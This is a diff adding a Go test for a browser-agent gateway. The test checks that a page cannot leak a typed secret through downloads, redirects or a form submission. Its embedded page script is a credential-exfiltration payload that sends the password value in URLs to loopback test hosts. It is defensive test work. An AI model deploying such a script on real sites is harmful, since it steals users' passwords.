@@ -3,7 +3,9 @@ package main
 import (
 	"fmt"
 	"net/http"
+	"net/url"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -198,4 +200,93 @@ setInterval(() => {
 	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
 	t.Logf("type_text beside the user's frame of the site (refused %v):\n%s", refused, out)
 	f.canaryHasSecret(t, "a user's frame of the field's site")
+}
+
+// TestH7PageDownloadCarriesTheSecret: after the secret is typed, the
+// field's page starts downloads by itself whose URLs carry the value: to
+// a host in the scope but outside the secret's domains (127.0.0.3), to
+// the canary outside the scope, and by a form with a download response.
+// Neither the other host nor the canary sees the value, and the replies
+// do not show it to the agent in any encoding the URLs carry it in.
+func TestH7PageDownloadCarriesTheSecret(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	down := t.TempDir()
+	manifest := strings.Replace(fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)),
+		`allowed_domains = ["127.0.0.1"]
+allow_private_cidrs = ["127.0.0.1/32"]`, `allowed_domains = ["127.0.0.1", "127.0.0.3"]
+allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]`, 1) + fmt.Sprintf(`[browser.commands.download]
+[browser.files]
+download_dir = %q
+[secrets.APP_PASSWORD]
+env = "BROWSERGATE_E2E_SECRET"
+domains = ["127.0.0.1"]
+`, down)
+	f := startWith(t, manifest)
+	var mu sync.Mutex
+	var other []string
+	xhost, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		other = append(other, r.URL.String())
+		mu.Unlock()
+		w.Header().Set("Content-Disposition", `attachment; filename="x.txt"`)
+		fmt.Fprint(w, "x")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopX)
+	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/redir" {
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
+			return
+		}
+		if r.URL.Path == "/file" {
+			w.Header().Set("Content-Disposition", `attachment; filename="own.txt"`)
+			fmt.Fprint(w, "own")
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<title>form</title><input type=password id=pw aria-label=Password>
+<form id=f method=GET target=_self><input name=pw id=h></form><script>
+const dl = (href, name) => { const a = document.createElement('a'); a.href = href; a.download = name; document.body.append(a); a.click(); };
+let done = false;
+document.getElementById('pw').addEventListener('input', e => {
+  const v = e.target.value;
+  if (done || v.length < 10) return;
+  done = true;
+  const steps = [
+    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r.txt'),
+    () => dl('/redir?to=' + encodeURIComponent(%[2]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r2.txt'),
+    () => dl(%[1]q + '/dl?pw=' + encodeURIComponent(v), 'a.txt'),
+    () => dl(%[2]q + '/dl?pw=' + encodeURIComponent(v), 'b.txt'),
+    () => { const f = document.getElementById('f'); f.action = %[1]q + '/form'; document.getElementById('h').value = v; f.submit(); },
+  ];
+  steps.forEach((s, i) => setTimeout(s, 400 * i));
+});
+</script>`, xhost, f.canaryTo)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopSite)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text:\n%s", out)
+	// The refusal names a URL that carries the value encoded twice (a URL
+	// in the site's redirect parameter): the agent gets none of it.
+	if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(out, twice[len(twice)/2:]) {
+		t.Errorf("the reply shows the value's second half, percent-encoded twice:\n%s", out)
+	}
+	f.canaryHasSecret(t, "the page's downloads after the secret")
+	t.Logf("list_tabs: %s", f.mustAllow(t, "e2e.list_tabs", nil))
+	mu.Lock()
+	defer mu.Unlock()
+	for _, u := range other {
+		if strings.Contains(u, "pw=") {
+			t.Errorf("the host outside the secret's domains saw %s", u)
+		}
+	}
+	t.Logf("127.0.0.3 saw %q", other)
 }
